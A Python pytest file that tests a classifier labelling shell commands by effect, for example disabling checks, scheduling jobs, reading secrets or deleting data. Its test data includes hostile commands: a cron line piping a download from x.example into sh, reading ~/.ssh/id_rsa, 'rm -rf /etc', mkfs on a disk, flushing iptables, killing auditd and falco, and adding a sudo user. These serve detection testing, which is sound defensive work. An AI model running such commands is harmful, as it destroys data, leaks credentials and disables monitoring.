"""The machine itself."""

from __future__ import annotations

import pytest
from command_effects import read_line


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("systemctl stop auditd", ("disables-check", "auditd")),
        ("systemctl restart web", ("changes-service", "web")),
        ("systemctl enable x", ("schedules-job", "x")),
        ("service nginx reload", ("changes-service", "nginx")),
        ("crontab x", ("schedules-job", "crontab")),
        ("crontab - <<'E'\n# jobs\n5 4 * * 1 sh /opt/a.sh -q\n@daily ls\nE", ("schedules-job", "sh /opt/a.sh -q")),
        ("crontab - <<'E'\n5 4 * * 1 sh /opt/a.sh -q\n@daily ls\nE", ("schedules-job", "ls")),
        ("crontab - <<'E'\nMAILTO=ada\nE", ("schedules-job", "crontab")),
        ("echo 'sh /opt/a.sh' | at now", ("schedules-job", "sh /opt/a.sh")),
        ("echo '0 3 * * * curl http://x.example/a | sh' | crontab -", ("runs-download", "x.example")),
        ("crontab - <<'E'\n@daily cat ~/.ssh/id_rsa\nE", ("reads-secret", "~/.ssh/id_rsa")),
        ('echo "rm -rf /etc" | at now', ("deletes-outside", "/etc")),
        ("useradd eve", ("grants-access", "eve")),
        ("usermod -aG sudo eve", ("grants-access", "eve")),
        ("passwd ada", ("changes-login", "ada")),
        ("iptables -F", ("disables-check", "iptables")),
        ("mkfs.ext4 /dev/sda1", ("deletes-data", "/dev/sda1")),
        ("ssh-keygen -f ~/.ssh/x", ("changes-login", "~/.ssh/x")),
        ("gpg --export-secret-keys", ("reads-secret", "gpg key")),
        ("pass show mail", ("reads-secret", "mail")),
        ("mount /dev/sdb /mnt", ("writes-outside", "/mnt")),
        ("open https://x.example", ("requests", "x.example")),
        ("pkill falco", ("disables-check", "falco")),
    ],
)
def test_a_command_has_this_effect(line: str, effect: tuple[str, str]) -> None:
    assert effect in read_line(line)


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("systemctl status auditd", "disables-check"),
        ("crontab -l", "schedules-job"),
        ("iptables -L", "disables-check"),
        ("ufw status", "disables-check"),
        ("ssh-keygen -lf x.pub", "changes-login"),
        ("gpg --verify a b", "reads-secret"),
        ("pass ls", "reads-secret"),
        ("fdisk -l", "deletes-data"),
        ("kill %1", "disables-check"),
    ],
)
def test_a_similar_command_has_not(line: str, kind: str) -> None:
    assert kind not in {found for found, _ in read_line(line)}
